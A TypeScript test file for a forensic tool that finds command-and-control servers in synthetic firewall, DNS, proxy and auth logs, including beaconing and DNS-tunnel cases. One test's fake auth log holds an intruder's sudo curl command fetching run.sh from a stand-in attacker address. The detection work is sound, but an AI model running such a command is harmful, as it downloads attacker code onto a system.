import { describe, expect, test } from 'vitest';
import { investigateFiles, LogWriter } from '../../test/scenario.ts';
import type { Controller } from './tracks.ts';

const LEADER = '203.0.113.9';
const MIRROR = '198.51.100.80';
const AFFECTED = ['ash', 'elm', 'oak', 'yew'];
const QUIET = ['bay', 'box', 'fig', 'fir', 'gum', 'koa', 'nut', 'tea'];
const HOSTS = [...AFFECTED, ...QUIET];
const START = Date.parse('2026-05-19T00:00:00Z');
const BROKEN = Date.parse('2026-05-19T06:00:00Z');

interface Call {
  readonly at: number;
  readonly host: string;
  readonly to: string;
  readonly port: number;
}

const inside = (host: string) => `10.4.0.${HOSTS.indexOf(host) + 10}`;
const stamp = (at: number) => new Date(at).toISOString().replace('.000Z', '+00:00');

/** All hosts ask a mirror by the hour; the affected ones call their leader every five minutes since they were broken into. */
function calls(): Call[] {
  const all: Call[] = [];
  for (const host of HOSTS)
    for (let hour = 0; hour < 14; hour += 1)
      all.push({ at: START + hour * 3_600_000 + HOSTS.indexOf(host) * 61_000, host, to: MIRROR, port: 443 });
  for (const host of AFFECTED)
    for (let beat = 1; beat < 40; beat += 1)
      all.push({ at: BROKEN + beat * 300_000 + HOSTS.indexOf(host) * 1000, host, to: LEADER, port: 443 });
  return all.sort((a, b) => a.at - b.at);
}

/** Every host's own log of logins, with a break-in at the affected ones. */
function logins(): Record<string, string> {
  const files: Record<string, string> = {};
  for (const host of HOSTS) {
    const log = new LogWriter(host, '2026-05-19T00:00:00Z').life(300).wait(3000);
    if (AFFECTED.includes(host))
      log.fails('192.0.2.66', 'deploy', 4100, 60).enters('192.0.2.66', 'deploy', 4200).sudo('deploy', '/usr/bin/id');
    files[`${host}/var/log/auth.log`] = log.life(300).text();
  }
  return files;
}

/** One file of a gateway, from one line for each call. */
const gateway = (path: string, lines: (call: Call) => string, head = '') => ({
  [`gate/${path}`]: `${head}${calls().map(lines).join('\n')}\n`,
});

/** A file at each host. */
function each(path: string, line: (call: Call, number: number) => string): Record<string, string> {
  const files: Record<string, string> = {};
  for (const [number, call] of calls().entries()) {
    const name = `${call.host}/${path}`;
    files[name] = `${files[name] ?? ''}${line(call, number)}\n`;
  }
  return files;
}

const leases = HOSTS.map(
  (host) => `${stamp(START)} gate dnsmasq-dhcp[9]: DHCPACK(lan0) ${inside(host)} 02:00:00:00:00:02 ${host}\n`,
).join('');
const packet = ({ host, to, port }: Call) =>
  `SRC=${inside(host)} DST=${to} LEN=60 TTL=64 ID=7 DF PROTO=TCP SPT=40112 DPT=${port} WINDOW=64240 RES=0x00 SYN URGP=0`;
const saddr = ({ to, port }: Call) =>
  Buffer.from([2, 0, port >> 8, port & 255, ...to.split('.').map(Number), 0, 0, 0, 0, 0, 0, 0, 0])
    .toString('hex')
    .toUpperCase();
const NAMES = new Map([
  [LEADER, 'cc.example.org'],
  [MIRROR, 'mirror.example.net'],
]);

async function lead(files: Record<string, string>): Promise<readonly Controller[]> {
  return (await investigateFiles({ ...logins(), ...files })).controllers;
}

describe('each kind of log tells who leads', () => {
  test.each<[string, () => Record<string, string>]>([
    [
      'the hosts’ own firewall',
      () =>
        each(
          'var/log/kern.log',
          (call) => `${stamp(call.at)} ${call.host} kernel: [12.000001] [UFW ALLOW] IN= OUT=eth0 ${packet(call)}`,
        ),
    ],
    [
      'nftables',
      () =>
        each(
          'var/log/kern.log',
          (call) => `${stamp(call.at)} ${call.host} kernel: nft-out: IN= OUT=eth0 ${packet(call)}`,
        ),
    ],
    [
      'auditd',
      () =>
        each('var/log/audit/audit.log', (call, number) => {
          const id = `msg=audit(${(call.at / 1000).toFixed(3)}:${number + 10}):`;
          return `type=SYSCALL ${id} arch=c000003e syscall=42 success=yes exit=0 a0=3 items=0 ppid=1 pid=77 auid=4294967295 uid=0 gid=0 euid=0 comm="x" exe="/tmp/x" key="net"\ntype=SOCKADDR ${id} saddr=${saddr(call)}`;
        }),
    ],
    [
      'a gateway',
      () =>
        gateway(
          'var/log/kern.log',
          (call) => `${stamp(call.at)} gate kernel: FWD: IN=lan0 OUT=wan0 ${packet(call)}`,
          leases,
        ),
    ],
    [
      'conntrack',
      () => ({
        ...gateway(
          'conntrack.log',
          (call) =>
            `[${(call.at / 1000).toFixed(6)}]\t    [NEW] tcp      6 120 SYN_SENT src=${inside(call.host)} dst=${call.to} sport=40112 dport=${call.port} [UNREPLIED] src=${call.to} dst=${inside(call.host)} sport=${call.port} dport=40112`,
        ),
        'gate/var/log/syslog': leases,
      }),
    ],
    [
      'pfSense',
      () =>
        gateway(
          'filter.log',
          (call) =>
            `${stamp(call.at)} gate filterlog[9]: 5,,,1000000103,em1,match,pass,in,4,0x0,,64,7,0,DF,6,tcp,60,${inside(call.host)},${call.to},40112,${call.port},0,S,1,,64240,,mss`,
          leases,
        ),
    ],
    [
      'Cisco ASA',
      () =>
        gateway(
          'asa.log',
          (call) =>
            `${stamp(call.at)} gate %ASA-6-302013: Built outbound TCP connection 7 for outside:${call.to}/${call.port} (${call.to}/${call.port}) to inside:${inside(call.host)}/40112 (192.0.2.1/40112)`,
          leases,
        ),
    ],
    [
      'squid',
      () => ({
        ...gateway(
          'var/log/squid/access.log',
          (call) =>
            `${(call.at / 1000).toFixed(3)}    120 ${inside(call.host)} TCP_TUNNEL/200 4120 CONNECT ${NAMES.get(call.to)}:${call.port} - HIER_DIRECT/${call.to} -`,
        ),
        'gate/var/log/syslog': leases,
      }),
    ],
  ])('%s', async (_, files) => {
    const [first] = await lead(files());
    expect(first).toMatchObject({
      address: LEADER,
      affected: AFFECTED,
      quiet: [],
      ports: [443],
      period: 300,
      connections: 156,
    });
    expect(first?.score).toBeGreaterThan(0.9);
    expect(first?.reasons.slice(0, 2)).toEqual([
      '4 of 4 affected hosts talk to it, none of 8 quiet ones',
      'every 5 minutes, give or take 0 s, on 4 of 4 hosts',
    ]);
    expect(first?.evidence[0]?.raw).toBeTruthy();
  });

  test.each<[string, (call: Call) => string]>([
    [
      'dnsmasq',
      (call) => `${stamp(call.at)} gate dnsmasq[9]: query[A] ${NAMES.get(call.to)} from ${inside(call.host)}`,
    ],
    [
      'BIND',
      (call) =>
        `${stamp(call.at)} gate named[9]: client @0x7f1 ${inside(call.host)}#40112 (${NAMES.get(call.to)}): query: ${NAMES.get(call.to)} IN A +E(0)K (10.4.0.1)`,
    ],
    [
      'Unbound',
      (call) => `${stamp(call.at)} gate unbound[9]: [9:0] info: ${inside(call.host)} ${NAMES.get(call.to)}. A IN`,
    ],
  ])('questions to %s name it', async (_, line) => {
    const [first, second] = await lead(gateway('var/log/daemon.log', line, leases));
    expect(first).toMatchObject({ address: 'cc.example.org', affected: AFFECTED, quiet: [], period: 300 });
    expect(second).toBeUndefined();
  });

  test('an answer joins a name with its address', async () => {
    const answer = `${stamp(START)} gate dnsmasq[9]: reply cc.example.org is ${LEADER}\n`;
    const files = gateway(
      'var/log/daemon.log',
      (call) =>
        `${stamp(call.at)} gate dnsmasq[9]: query[A] ${NAMES.get(call.to)} from ${inside(call.host)}\n${stamp(call.at)} gate kernel: FWD: IN=lan0 OUT=wan0 ${packet(call)}`,
      leases + answer,
    );
    const controllers = await lead(files);
    expect(controllers.map(({ address }) => address)).toEqual([LEADER]);
    expect(controllers[0]?.reasons).toContain('resolvers gave it for cc.example.org');
  });

  test('a tunnel that asks for ever new names', async () => {
    const line = ({ at, host, to }: Call) =>
      `${stamp(at)} gate dnsmasq[9]: query[A] ${to === LEADER ? `${at.toString(36)}${host}.` : ''}${NAMES.get(to)} from ${inside(host)}`;
    const controllers = await lead(gateway('var/log/daemon.log', line, leases));
    expect(controllers.map(({ address }) => address)).toEqual(['cc.example.org']);
    expect(controllers[0]).toMatchObject({ affected: AFFECTED, quiet: [], period: 300 });
  });

  test('a tunnel that never rests', async () => {
    const asked = AFFECTED.flatMap((host) =>
      Array.from({ length: 6000 }, (_, k) => ({ at: BROKEN + 600_000 + k * 1500, host, to: LEADER, port: 53 })),
    );
    const line = ({ at, host, to }: Call) =>
      `${stamp(at - (at % 1000))} gate dnsmasq[9]: query[TXT] ${at.toString(36)}${host}.${NAMES.get(to)} from ${inside(host)}`;
    const ordinary = calls().filter(({ to }) => to === MIRROR);
    const log = [...ordinary, ...asked].sort((a, b) => a.at - b.at).map(line);
    const controllers = await lead({ 'gate/var/log/daemon.log': `${leases}${log.join('\n')}\n` });
    expect(controllers.map(({ address }) => address)).toEqual(['cc.example.org']);
    expect(controllers[0]?.reasons.join('; ')).not.toContain('only once');
  });

  test('commands of an intruder name it', async () => {
    const files: Record<string, string> = {};
    for (const host of HOSTS) {
      const log = new LogWriter(host, '2026-05-19T00:00:00Z').life(300).wait(3000);
      if (AFFECTED.includes(host))
        log
          .fails('192.0.2.66', 'deploy', 4100, 60)
          .enters('192.0.2.66', 'deploy', 4200)
          .sudo('deploy', `/usr/bin/curl -s http://${LEADER}:8081/run.sh -o /tmp/run.sh`);
      files[`${host}/var/log/auth.log`] = log.life(300).text();
    }
    const { controllers } = await investigateFiles(files);
    expect(controllers[0]).toMatchObject({ address: LEADER, affected: AFFECTED, ports: [8081], quiet: [] });
    expect(controllers[0]?.reasons[0]).toBe('4 of 4 affected hosts name it in commands, none of 8 quiet ones');
  });
});

test('without a gateway’s leases the peer’s port tells which host an inside address is', async () => {
  const arrivals = AFFECTED.map(
    (host) =>
      `${stamp(BROKEN)} gate kernel: FWD: IN=wan0 OUT=lan0 SRC=192.0.2.66 DST=${inside(host)} LEN=60 PROTO=TCP SPT=44${HOSTS.indexOf(host)}00 DPT=22 SYN URGP=0\n`,
  );
  const files: Record<string, string> = {};
  for (const host of AFFECTED)
    files[`${host}/var/log/auth.log`] = new LogWriter(host, '2026-05-19T05:00:00Z')
      .fails('192.0.2.66', 'deploy', 4100, 60)
      .say('sshd[4200]', `Accepted password for deploy from 192.0.2.66 port 44${HOSTS.indexOf(host)}00 ssh2`, 0)
      .say('sshd[4200]', 'pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)')
      .text();
  const { controllers } = await investigateFiles({
    ...files,
    ...gateway(
      'var/log/kern.log',
      (call) => `${stamp(call.at)} gate kernel: FWD: IN=lan0 OUT=wan0 ${packet(call)}`,
      arrivals.join(''),
    ),
  });
  expect(controllers[0]).toMatchObject({ address: LEADER, affected: AFFECTED });
});

describe('nobody is accused', () => {
  const firewall = () =>
    each('var/log/kern.log', (call) => `${stamp(call.at)} ${call.host} kernel: OUT: IN= OUT=eth0 ${packet(call)}`);

  test('where no host is affected', async () => {
    expect((await investigateFiles(firewall())).controllers).toEqual([]);
  });

  test('for answering who came in, for asking the time, for a private address', async () => {
    const files = each('var/log/kern.log', ({ at, host, to }) => {
      const head = `${stamp(at)} ${host} kernel: OUT: IN= OUT=eth0 SRC=${inside(host)}`;
      if (to === MIRROR) return `${head} DST=${MIRROR} LEN=60 PROTO=UDP SPT=40000 DPT=123 LEN=56`;
      return [
        `${head} DST=192.0.2.200 LEN=60 PROTO=TCP SPT=22 DPT=51515 WINDOW=1 RES=0x00 ACK SYN URGP=0`,
        `${head} DST=192.0.2.201 LEN=60 PROTO=UDP SPT=53 DPT=51515 LEN=40`,
        `${head} DST=192.0.2.202 LEN=60 PROTO=ICMP TYPE=3 CODE=3`,
        `${head} DST=10.9.9.9 LEN=60 PROTO=TCP SPT=40112 DPT=443 WINDOW=1 RES=0x00 SYN URGP=0`,
      ].join('\n');
    });
    expect(await lead(files)).toEqual([]);
  });

  test('for what all affected hosts used before the way in as well, and for one visit days later', async () => {
    const [bank, tools] = ['198.51.100.90', '198.51.100.91'];
    const theirs: Call[] = AFFECTED.flatMap((host, at) => [
      ...Array.from({ length: 30 }, (_, k) => ({ at: START + k * 1_800_000 + at * 7000, host, to: bank, port: 443 })),
      { at: BROKEN + 13 * 3_600_000 + at * 60_000, host, to: tools, port: 443 },
    ]);
    const files = firewall();
    for (const call of theirs.sort((a, b) => a.at - b.at))
      files[`${call.host}/var/log/kern.log`] +=
        `${stamp(call.at)} ${call.host} kernel: OUT: IN= OUT=eth0 ${packet(call)}\n`;
    expect((await lead(files)).map(({ address }) => address)).toEqual([LEADER]);
  });

  test('surely, where one host alone is affected', async () => {
    const files = { ...firewall(), 'ash/var/log/auth.log': logins()['ash/var/log/auth.log'] ?? '' };
    const { controllers } = await investigateFiles(files);
    expect(controllers[0]).toMatchObject({ address: LEADER, affected: ['ash'] });
    expect(controllers[0]?.score).toBeLessThan(0.4);
    expect(controllers[0]?.reasons).toContain('only one host is affected: it may be what this host alone uses');
  });
});

test('an owner’s evidence makes its host affected', async () => {
  const files = {
    ...each('var/log/kern.log', (call) => `${stamp(call.at)} ${call.host} kernel: OUT: IN= OUT=eth0 ${packet(call)}`),
  };
  const sources = AFFECTED.map((host) => ({ label: `owner of ${host}`, path: host }));
  const { controllers } = await investigateFiles(files, { sources });
  expect(controllers[0]).toMatchObject({ address: LEADER, affected: AFFECTED, quiet: [], period: 300 });
});
